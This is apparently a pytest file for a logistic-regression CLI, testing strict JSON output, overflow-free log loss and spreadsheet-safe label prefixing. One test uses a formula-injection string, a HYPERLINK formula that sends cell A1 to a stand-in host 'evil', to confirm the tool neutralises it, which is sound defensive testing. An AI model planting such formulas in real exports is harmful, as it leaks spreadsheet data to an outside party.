"""What the command line writes for machines: strict JSON, spreadsheet-safe labels.

* ``summary --odds-ratios --json`` of a model with a coefficient of 804 wrote
  ``"odds_ratio": Infinity``, and ``evaluate --json`` ``"log_loss": Infinity``:
  not JSON, so ``JSON.parse``, ``jq`` or a strict Python parser refused the
  whole document. Non-finite numbers are now ``null``
  (``logistic.cli._json_text``).
* ``evaluate`` on rows with a value near 1e308 reported a log loss of ``inf``
  with a leaked ``RuntimeWarning: overflow encountered in reduce``; each
  row's loss was finite (about 1e305), only their sum overflowed.
* ``predict --excel-safe`` prefixed risky text in the ``--keep`` columns but
  not in ``label``, whose text is the model file's class labels.
"""

from __future__ import annotations

import json
import warnings

import numpy as np
import pandas as pd
import pyarrow.csv as pacsv

from conftest import run_cli
from logistic import metrics
from logistic.datasets import ucla_admissions_path


def _strict(text: str):
    def refuse(constant):
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_summary_json_writes_an_infinite_odds_ratio_as_null(workdir, capsys):
    frame = pd.read_csv(ucla_admissions_path())
    frame["gpa"] = frame["gpa"] / 1000  # gpa in thousands: a coefficient near 800
    frame.to_csv("small.csv", index=False)
    code, out, err = run_cli(capsys, ["fit", "small.csv", "-t", "admit", "-o", "m.json"])
    assert code == 0, err
    code, out, err = run_cli(capsys, ["summary", "m.json", "--odds-ratios", "--json"])
    assert code == 0, err
    doc = _strict(out)
    rows = {row["term"]: row for row in doc["odds_ratios"]}
    gpa = rows["gpa"]
    assert gpa["odds_ratio"] is None and gpa["ci_high"] is None
    assert np.isfinite(rows["gre"]["odds_ratio"])


def test_evaluate_json_of_huge_values_is_strict_and_finite(workdir, capsys):
    frame = pd.read_csv(ucla_admissions_path())
    code, out, err = run_cli(
        capsys, ["fit", ucla_admissions_path(), "-t", "admit", "-o", "m.json"]
    )
    assert code == 0, err
    huge = pd.concat([frame] * 5, ignore_index=True)
    huge["gre"] = 1e308
    huge.to_csv("huge.csv", index=False)
    code, out, err = run_cli(capsys, ["evaluate", "m.json", "huge.csv", "--json"])
    assert code == 0, err
    assert "RuntimeWarning" not in err
    doc = _strict(out)
    assert doc["log_loss"] is not None and 1e300 < doc["log_loss"] < np.inf


def test_the_mean_log_loss_of_huge_logits_does_not_overflow():
    z = np.full(2000, 2.0e305)
    y = np.zeros(2000)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        loss = metrics.log_loss_from_logits(y, z)
    assert loss == 2.0e305


def test_excel_safe_prefixes_a_risky_label(workdir, capsys):
    rng = np.random.default_rng(0)
    risky = '=HYPERLINK("http://evil/?x="&A1,"click")'
    frame = pd.DataFrame({"x": rng.normal(size=200)})
    frame["y"] = np.where(rng.uniform(size=200) < 0.5, risky, "no")
    frame.to_csv("d.csv", index=False)
    code, out, err = run_cli(
        capsys, ["fit", "d.csv", "-t", "y", "--positive", risky, "-o", "m.json"]
    )
    assert code == 0, err
    for safe, expected in ((["--excel-safe"], "'" + risky), ([], risky)):
        argv = ["predict", "m.json", "d.csv", *safe, "-o", "p.csv", "--force"]
        code, out, err = run_cli(capsys, argv)
        assert code == 0, err
        labels = set(pacsv.read_csv("p.csv").column("label").to_pylist())
        assert labels <= {expected, "no"} and expected in labels, labels
